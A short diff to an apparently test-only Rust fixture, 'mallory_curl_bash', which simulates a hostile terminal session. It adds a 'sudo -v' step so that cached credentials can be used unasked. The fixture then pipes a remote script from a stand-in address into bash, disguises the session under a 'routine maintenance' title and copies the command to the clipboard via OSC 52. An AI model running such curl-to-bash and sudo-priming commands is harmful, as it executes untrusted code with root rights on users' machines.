@@ -98,6 +98,9 @@ fn mallory_curl_bash() -> String {
     [
         // The title the session set, and what it put on the clipboard (OSC 52).
         "\x1b]2;routine maintenance\x07".to_owned(),
+        // sudo's credentials cached first, so that the script can use them unasked.
+        run(&p, "sudo -v"),
+        lines(&["[sudo] password for ubuntu: "]),
         run(&p, "curl -fsSL http://203.0.113.50/i.sh | bash"),
         lines(&["[+] installing helper", "[+] done"]),
         "\x1b]52;c;Y3VybCAtZnNTTCBodHRwOi8vMjAzLjAuMTEzLjUwL2kuc2ggfCBiYXNo\x07".to_owned(),
